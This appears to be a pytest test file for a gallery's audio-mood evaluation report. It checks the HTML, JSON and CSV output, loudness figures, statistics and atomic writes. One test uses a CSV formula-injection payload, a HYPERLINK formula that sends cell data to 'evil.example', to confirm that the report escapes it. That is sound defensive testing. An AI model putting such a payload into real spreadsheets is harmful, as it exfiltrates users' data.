"""report/ files: written beside build/, complete, and readable without JavaScript."""
from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from imaudible.evaluate import measures, report

from ..conftest import limit_file_size
from . import sample


@pytest.fixture(scope="module")
def written(tmp_path_factory):
    root = tmp_path_factory.mktemp("gallery")
    return root, sample.write(root)


def test_report_is_written_beside_build_not_inside(written, tmp_path):
    root, folder = written
    assert folder == root.resolve() / "report"
    assert {"index.html", "report.json", "report.csv", "report.js", "report.css"} <= {p.name for p in folder.iterdir()}
    assert not (root / "build").exists()
    with pytest.raises(ValueError, match="inside the published folder"):
        report.write_report(tmp_path, tmp_path, {}, {})


def test_report_json_and_csv_have_one_row_per_artwork(written):
    _, folder = written
    data = json.loads((folder / "report.json").read_text())
    assert [a["id"] for a in data["artworks"]] == ["sunrise", "nocturne", "harbour"]
    assert data["fad"]["note"].startswith("FAD needs a reference set")
    sunrise = data["artworks"][0]
    assert [t["number"] for t in sunrise["takes"]] == [1, 2] and sunrise["takes"][1]["health"]["problems"]
    assert data["summary"]["mood"]["control"]["pairs"] == 3
    rows = list(csv.DictReader((folder / "report.csv").open()))
    assert [r["id"] for r in rows] == ["sunrise", "nocturne", "harbour"]
    assert rows[0]["music_draft"] == "True" and rows[2]["music_draft"] == "False"
    assert float(rows[0]["music_arousal"]) > float(rows[1]["music_arousal"])


def test_page_reads_without_javascript(written):
    _, folder = written
    html = (folder / "index.html").read_text()
    assert html.count("<svg") == 3 and html.count('class="pt pt-music"') == 9 and html.count('class="pt pt-image"') == 3
    assert "<title>Sunrise (image mood)</title>" in html
    assert html.count("<audio controls") == 6                       # every take has its own player
    assert html.count('class="draft"') >= 2 and "CLAP model &#39;x&#39; is not available" in html
    assert "collapsed into a short loop" in html
    assert not re.search(r"<script>|\son\w+=|style=", html)          # nothing inline: the CSP needs none
    for ref in re.findall(r'(?:src|href)="(?!data:)([^"#]+)"', html):
        assert (folder / ref).is_file(), ref
    assert "imaudible-token" not in html


def test_a_second_write_removes_stale_media(written):
    root, folder = written
    (folder / "media" / "gone.webm").write_bytes(b"x")
    sample.write(root)
    assert not (folder / "media" / "gone.webm").exists()


def test_maps_are_reused_when_their_inputs_are_unchanged(monkeypatch):
    from imaudible.evaluate import measures, plots

    recs, _ = sample.records(seconds=2.0, with_audio=False)
    scores = measures.gallery_measures(recs)
    first = report.assemble(recs, scores, title="t", skipped=[])
    again_json = json.loads(json.dumps(first))                  # as read back from report.json

    def refuse(*_):
        raise AssertionError("PCA recomputed for unchanged inputs")

    monkeypatch.setattr(plots, "pca_2d", refuse)
    second = report.assemble(recs, scores, title="t", skipped=[], previous=again_json)
    assert second["maps"] == first["maps"]

    recs[0]["prompt"] = "a different prompt entirely, strings"   # the prompt map's input changed
    with pytest.raises(AssertionError, match="PCA recomputed"):
        report.assemble(recs, scores, title="t", skipped=[], previous=again_json)
    monkeypatch.undo()
    third = report.assemble(recs, scores, title="t", skipped=[], previous=again_json)
    assert third["maps"]["prompts"]["inputs"] != first["maps"]["prompts"]["inputs"]
    assert third["maps"]["audio"] == first["maps"]["audio"]


def test_loudness_is_given_as_heard_on_the_site_and_as_generated(written):
    # The report gave the raw take's loudness (-11.3 LUFS for a 3 s clip) as the site's, whose webm measured
    # -14.0 LUFS: the audio target, reached by finishing (normalisation, limiter, fades) after generation.
    _, folder = written
    data = json.loads((folder / "report.json").read_text())
    for art in data["artworks"]:
        for take in art["takes"]:
            assert take["heard"]["format"] == "webm"
            assert take["heard"]["loudness_lufs"] == pytest.approx(-14.0, abs=0.5)     # AudioSettings().loudness
            assert take["heard"]["true_peak_dbtp"] <= -1.0 + 0.5
            assert abs(take["health"]["loudness_lufs"] - take["heard"]["loudness_lufs"]) > 0.5
    health = data["summary"]["health"]
    assert health["heard_mean_loudness_lufs"] == pytest.approx(-14.0, abs=0.5)
    assert health["raw_mean_loudness_lufs"] < -16
    html = (folder / "index.html").read_text()
    sunrise = data["artworks"][0]["takes"][0]
    assert f"as heard on the site (webm): {sunrise['heard']['loudness_lufs']:.3f} LUFS" in html
    assert f"raw take, before finishing: {sunrise['health']['loudness_lufs']:.3f} LUFS" in html
    assert "loudness as heard on the site" in html and "loudness of the raw takes" in html
    rows = list(csv.DictReader((folder / "report.csv").open()))
    assert "loudness_lufs" not in rows[0]          # no column that could be either
    assert float(rows[0]["heard_loudness_lufs"]) == pytest.approx(-14.0, abs=0.5)
    assert float(rows[0]["raw_loudness_lufs"]) == pytest.approx(sunrise["health"]["loudness_lufs"])


def test_measures_a_clip_is_too_short_for_read_too_short_to_measure(tmp_path):
    folder = sample.write(tmp_path, seconds=3.0)
    data = json.loads((folder / "report.json").read_text())
    art = data["artworks"][0]
    take = art["takes"][0]
    assert take["features"]["tempo_bpm"] is None and take["features"]["mode"] is None
    assert take["valence"] is None and take["arousal"] is None
    assert take["features"]["centroid_hz"] is not None and take["health"]["repetition"] is not None
    assert take["unmeasured"]["tempo_bpm"] == "too short to measure: 3.0 s of audio, tempo needs at least 8 s"
    assert take["unmeasured"]["onset_rate"] == "too short to measure: 3.0 s of audio, onset rate needs at least 5 s"
    assert art["music_mood"]["valence"] is None and art["music_mood"]["unmeasured"].startswith("too short to measure")
    assert art["scores"]["mood_distance"] is None
    assert "control" not in data["summary"]["mood"] and data["summary"]["mood"]["left_out"] == 3
    rows = list(csv.DictReader((folder / "report.csv").open()))
    for column in ("music_valence", "music_arousal", "mood_distance", "tempo_bpm"):
        assert rows[0][column] == "too short to measure", column
    assert rows[0]["unmeasured"] == ("too short to measure: 3.0 s of audio; tempo, mode, key, valence and arousal "
                                     "need at least 8 s, onset rate 5 s")
    html = (folder / "index.html").read_text()
    assert rows[0]["unmeasured"] in html and "tempo too short to measure" in html
    assert html.count('class="pt pt-music"') == 6           # the mood map draws no music point it has not got
    assert html.count('class="pt pt-image"') == 3


def test_a_gallery_of_long_and_short_clips_leaves_the_short_out_of_the_mood_measures(tmp_path):
    from imaudible.evaluate import measures

    recs, _ = sample.records(seconds=8.0, with_audio=False)
    short, _ = sample.records(seconds=3.0, with_audio=False)
    recs[2] = short[2]
    scores = measures.gallery_measures(recs)
    assert scores["summary"]["mood"]["left_out"] == 1 and scores["summary"]["mood"]["control"]["pairs"] == 2
    assert scores["artworks"]["harbour"]["mood_distance"] is None
    assert scores["artworks"]["sunrise"]["mood_distance"] is not None
    html = report.render_html(report.assemble(recs, scores, title="t", skipped=[]))
    assert "1 artwork(s): their music is too short to measure" in html


def test_csv_text_that_starts_like_a_formula_is_not_run_by_a_spreadsheet():
    """A title `add` took from an image's metadata can be a formula; a negative number must stay a number."""
    recs, _ = sample.records()
    recs[0]["title"] = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    recs[1]["title"] = "@SUM(1+1)"
    data = report.assemble(recs, measures.gallery_measures(recs), title="T", skipped=[])
    rows = list(csv.DictReader(io.StringIO(report.render_csv(data))))
    assert [r["title"] for r in rows] == ["'" + recs[0]["title"], "'@SUM(1+1)", recs[2]["title"]]
    assert all(float(r["raw_loudness_lufs"]) < 0 for r in rows)


def test_a_report_file_the_disk_refuses_is_named_and_leaves_nothing_half_written(tmp_path):
    """The report's files go through the one atomic write: a full disk's error names the file (it named
    none), and no `.NAME.XXXXXXXX.tmp` is left in the report (it was, holding what fitted)."""
    write = ("import sys; from pathlib import Path; from imaudible.evaluate.report import _write; "
             "_write(Path(sys.argv[1]), 'plots/big.png', bytes(100_000))")
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).resolve().parents[2])}
    run = subprocess.run([sys.executable, "-c", write, str(tmp_path)], capture_output=True, text=True, env=env,
                         preexec_fn=limit_file_size)
    assert run.returncode == 1
    assert run.stderr.rstrip().endswith(f"File too large: '{tmp_path / 'plots' / 'big.png'}'"), run.stderr
    assert list((tmp_path / "plots").iterdir()) == []


def test_a_write_keeps_the_files_a_curator_keeps_in_report(tmp_path):
    """report/ may hold what evaluate never wrote (notes, an image the manifest names): only the earlier
    report's media and temporary files are swept, never those."""
    folder = tmp_path / "report"
    (folder / "scans").mkdir(parents=True)
    (folder / "notes.txt").write_text("condition notes")
    (folder / "scans" / "wave.jpg").write_bytes(b"\xff\xd8 an artwork")
    (folder / "media").mkdir()
    (folder / "media" / "gone.webm").write_bytes(b"x")
    (folder / ".index.html.a1b2c3d4.tmp").write_bytes(b"half")
    sample.write(tmp_path)
    assert (folder / "notes.txt").read_text() == "condition notes"
    assert (folder / "scans" / "wave.jpg").read_bytes() == b"\xff\xd8 an artwork"
    assert not (folder / "media" / "gone.webm").exists() and not (folder / ".index.html.a1b2c3d4.tmp").exists()


def test_a_right_to_left_title_and_artist_read_in_their_own_direction():
    recs, _ = sample.records(with_audio=False)
    recs[0].update(title="מה?", artist="ناجي العلي")
    scores = measures.gallery_measures(recs)
    html = report.render_html(report.assemble(recs, scores, title="t", skipped=[]))
    assert '<strong dir="auto">מה?</strong><br><bdi>ناجي العلي</bdi>' in html


def test_mood_agreement_of_draft_music_is_said_to_hold_by_construction(written):
    # the built-in composer plays the image's valence and arousal, which the feature mood reads back
    root, folder = written
    mood = json.loads((folder / "report.json").read_text())["summary"]["mood"]
    assert mood["circular"].startswith("2 of the 3 clips measured are the built-in composer's drafts")
    html = (folder / "index.html").read_text()
    assert "mood agreement by construction" in html and "holds by construction" in html
    recs, _ = sample.records(with_audio=False)
    for r in recs:
        r["drafts"]["music"] = False
    assert "circular" not in measures.gallery_measures(recs)["summary"]["mood"]


def test_an_undefined_correlation_says_why():
    from imaudible.evaluate import text

    def facts(n, r=None):
        mood = {"valence_correlation": {"r": r, "p_value": None, "n": n},
                "arousal_correlation": {"r": 0.5, "p_value": 0.2, "n": n}}
        return dict((label, value) for label, value, _ in text.facts({"summary": {"mood": mood}}))

    assert facts(2)["valence correlation, image vs music"] == "not defined (n = 2: fewer than 3 artworks)"
    assert facts(5)["valence correlation, image vs music"].endswith("the image or the music mood does not vary)")
    assert facts(5)["arousal correlation, image vs music"] == "r = 0.500 (p = 0.200, n = 5)"


def test_csv_gives_the_mood_at_the_other_tempo_octave():
    from imaudible.evaluate import text

    recs, _ = sample.records(with_audio=False)
    recs[0]["takes"][0]["measures"]["at_alternative_tempo"] = {"tempo_bpm": 60.0, "valence": 0.31, "arousal": 0.22}
    data = report.assemble(recs, measures.gallery_measures(recs), title="t", skipped=[])
    rows = list(csv.DictReader(io.StringIO(text.render_csv(data))))
    assert (rows[0]["valence_at_alternative_tempo"], rows[0]["arousal_at_alternative_tempo"]) == ("0.31", "0.22")
    assert rows[1]["arousal_at_alternative_tempo"] == ""


def test_the_page_states_adjusted_p_values_and_why(written):
    root, folder = written
    data = json.loads((folder / "report.json").read_text())
    family = data["summary"]["multiple_tests"]
    html = (folder / "index.html").read_text()
    assert "adjusted p" in html and f"{family['tests']} tests are stated together" in html
    adjusted = data["summary"]["mood"]["control"]["p_adjusted"]
    row = re.search(r"mood distance, audio features \(lower is better\)</th>(.*?)</tr>", html).group(1)
    assert re.findall(r"<td>([^<]*)</td>", row)[-1] == f"{adjusted:.3f}"


def test_artworks_that_failed_to_build_are_named_in_every_report_file(tmp_path):
    """A gallery of 4 with one broken image: the figures cover 3, and the report must say so, not pass for
    the whole gallery."""
    recs, media = sample.records(with_audio=False)
    failed = ["artwork 'udnie' (art/udnie.jpg) failed at ingest: cannot decode 'udnie.jpg': file is truncated"]
    data = report.assemble(recs, measures.gallery_measures(recs), title="t", skipped=[], failed=failed)
    folder = report.write_report(tmp_path, tmp_path / "build", data, media)
    assert json.loads((folder / "report.json").read_text())["failed"] == failed
    html = (folder / "index.html").read_text()
    assert "3 artworks (1 more failed to build: not evaluated)" in html
    assert "cover the other 3): artwork &#39;udnie&#39; (art/udnie.jpg) failed at ingest" in html


def test_a_p_value_that_rounds_to_zero_reads_below_a_thousandth():
    from imaudible.evaluate import text

    assert text.p_value(0.0) == "< 0.001" and text.p_value(0.0004) == "< 0.001"
    assert text.p_value(0.0005) == "0.001" and text.p_value(1) == "1.000" and text.p_value(None) == "–"
    mood = {"valence_correlation": {"r": 0.9999, "p_value": 0.0, "n": 12, "p_adjusted": 0.0},
            "arousal_correlation": {"r": None, "p_value": None, "n": 12, "distinct": 2}}
    facts = dict((label, value) for label, value, _ in text.facts({"summary": {"mood": mood}}))
    assert facts["valence correlation, image vs music"] == "r = 1.000 (p < 0.001, adjusted < 0.001, n = 12)"
    assert "only 2 distinct image-music points" in facts["arousal correlation, image vs music"]


def test_the_page_marks_curator_moods_and_exact_permutation_p(tmp_path):
    recs, media = sample.records(with_audio=False)
    recs[1]["image_mood"]["set_by_curator"] = ["valence"]
    data = report.assemble(recs, measures.gallery_measures(recs), title="t", skipped=[])
    folder = report.write_report(tmp_path, tmp_path / "build", data, media)
    html = (folder / "index.html").read_text()
    assert "(set in gallery.yaml: valence)" in html and "(exact: all re-pairings)" in html
    rows = list(csv.DictReader((folder / "report.csv").open()))
    assert [r["image_mood_set_by_curator"] for r in rows] == ["", "valence", ""]


@pytest.mark.parametrize("drafts, measured, start", [(1, 1, "The one clip measured is the built-in"),
                                                     (3, 3, "All 3 clips measured are the built-in"),
                                                     (1, 3, "1 of the 3 clips measured are the built-in")])
def test_the_drafts_sentence_reads_right_for_any_count(drafts, measured, start):
    recs, _ = sample.records(with_audio=False)
    recs = recs[:measured]
    for i, r in enumerate(recs):
        r["drafts"]["music"] = i < drafts
    assert measures.gallery_measures(recs)["summary"]["mood"]["circular"].startswith(start)
